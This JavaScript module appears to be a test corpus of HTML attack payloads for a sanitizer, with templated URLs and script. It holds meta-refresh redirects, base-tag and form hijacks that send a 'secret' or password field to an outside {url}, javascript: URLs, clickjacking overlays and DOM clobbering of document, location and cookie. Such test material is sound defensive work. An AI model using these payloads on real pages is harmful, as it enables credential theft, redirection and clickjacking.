// What leads a page away, submits something, or stands in the place of what a script looks for. How a letter is written is
// told in ./corpus.mjs.

const refresh = (content) => `<meta http-equiv="refresh" content="${content}"><p>x</p>`;
const form = (attributes, inner = '<button>x</button>') => `<form ${attributes}><input name="q" value="secret">${inner}</form>`;

const LEADING = {
  'refresh': refresh('0;url={url}/a'),
  'refresh in quotes': refresh("0; url='{url}/a'"),
  'refresh without a name': refresh('0 {url}/a'),
  'refresh of data': refresh('0;url=data:text/html,<script>{js}</script>'),
  'refresh twice': `${refresh('9;url={url}/late')}${refresh('0;url={url}/a')}`,
  'refresh in the head': '<html><head><meta http-equiv="refresh" content="0;url={url}/a"></head><body>x</body></html>',
  'refresh in entities': '<meta http-equiv="&#82;efresh" content="0&semi;u&#114;l&equals;{url}/a">',
  'refresh in noscript': '<noscript><meta http-equiv="refresh" content="0;url={url}/a"></noscript>',
  'refresh in svg': '<svg><desc><meta http-equiv="refresh" content="0;url={url}/a"></desc></svg>',
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data:"><img src=x: onerror="{js}"><img src="{url}/a.png">`,
  'policy that reports': `<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-uri {url}/report"><img src="{url}/a.png">`,
  'cookie': '<meta http-equiv="set-cookie" content="hacked=1; path=/"><img src="{url}/a.png">',
  'referrer': '<meta name="referrer" content="unsafe-url"><img src="{url}/a.png"><a href="{url}/b" referrerpolicy="unsafe-url">x</a>',
  'prefetch of names': '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="{host}"><a href="{url}/a">x</a>',
  'base': '<base href="{url}/"><img src="a.png">',
  'base in the body': '<p>x</p><base href="{url}/"><img src="/{id}/a.png">',
  'base of a target': '<base target="_top"><a href="{url}/a">x</a>',
  'base of javascript': '<base href="javascript:/"><a href="/.,{js}">x</a><img src=x: onerror="{js}">',
  'base in svg': '<svg xml:base="{url}/"><image href="a.png" xlink:href="b.png"/><desc><base href="{url}/"><img src="c.png"></desc></svg>',
  'form': form('action="{url}/a"'),
  'form by post': form('action="{url}/a" method="post" enctype="text/plain"'),
  'form to the top': form('action="{url}/a" target="_top"'),
  'form to a new tab': form('action="{url}/a" target="_blank" rel="opener"'),
  'form of javascript': form('action="javascript:{js}"'),
  'form of a dialog': `<dialog open>${form('method="dialog" onsubmit="{js}"')}</dialog>`,
  'form of a button': form('', '<button formaction="{url}/a">x</button>'),
  'form of a button of javascript': form('', '<button formaction="javascript:{js}">x</button>'),
  'form from afar': '<form id="f" action="{url}/a"></form><p><button form="f">x</button><input form="f" name="q"></p>',
  'form over everything': `<div style="position:fixed;inset:0;opacity:0">${form('action="{url}/a"', '<button style="position:absolute;inset:0;width:100%;height:100%">x</button>')}</div>`,
  'form that fills itself in': form('action="{url}/a" autocomplete="on"', '<input name="password" type="password" autocomplete="current-password"><input type="submit">'),
  'command of a button': '<dialog id="d"><img loading="lazy" src="{url}/a.png"></dialog><button commandfor="d" command="show-modal">x</button>',
  'popover of a button': '<div id="o" popover><img loading="lazy" src="{url}/a.png"></div><button popovertarget="o">x</button>',
  'key of access': '<a accesskey="n" href="javascript:{js}">x</a><button accesskey="j" onclick="{js}">y</button>',
  'cover': '<div style="position:fixed;top:-9999px;left:-9999px;width:99999px;height:99999px;z-index:2147483647;background:red"><a href="{url}/a" target="_top">x</a></div>',
  'cover by importance': '<style>html,body{position:fixed!important;inset:-5000px!important;height:99999px!important;z-index:2147483647!important}</style><a href="{url}/a">x</a>',
  'room without an end': '<div style="height:33554432px;width:33554432px"><img src="{url}/a.png"></div>',
  'room that grows': '<style>@keyframes g{from{height:1px}to{height:100000px}}div{animation:g 1s infinite}</style><div></div><img src="{url}/a.png">',
  'words from both ends': '<p dir="rtl">\u202e{url}/a\u202c<bdo dir="rtl">x</bdo></p><img src="{url}/a.png">',
};

/** Names that a script may look for: of the window, of the document, of a form. */
const CLOBBERED = {
  'the window by a link': '<a id="hacked" href="x">x</a>',
  'the window by a form': '<form name="hacked"></form>',
  'the window by a picture': '<img name="hacked">',
  'the window by a frame': '<iframe name="hacked" srcdoc="x"></iframe>',
  'the window by a map': '<map id="hacked" name="hacked"></map>',
  'what the page has': '<a id="wasm_bindgen"></a><a id="trustedTypes"></a><a id="restante"></a><p id="message"></p><p id="messages"></p>',
  'the body': '<img name="body"><form name="body"></form>',
  'the head': '<form name="head"><input name="appendChild"></form>',
  'the root': '<img name="documentElement"><form id="documentElement"></form>',
  'how elements are made': '<form name="createElement"></form><embed name="write">',
  'the cookies': '<img name="cookie"><form name="domain"></form>',
  'the window of the document': '<form name="defaultView"><input name="parent"></form>',
  'the address': '<form name="location"><input name="href"></form><img name="baseURI">',
  'listeners': '<form name="addEventListener"></form><img name="removeEventListener">',
  'the method of a form': '<form id="f" action="{url}/a"><input name="submit"><input name="action" value="x"><input name="method"></form>',
  'a frame in a frame': '<iframe name="config" srcdoc="<iframe name=url srcdoc=\'<a id=href href={url}/a></a>\'></iframe>"></iframe>',
  'the prototype': '<a id="__proto__"></a><img name="constructor"><form name="prototype"></form><form name="toString"></form>',
};

export const LEADINGS = { ...LEADING, ...Object.fromEntries(Object.entries(CLOBBERED).map(([name, html]) => [`clobber ${name}`, html])) };
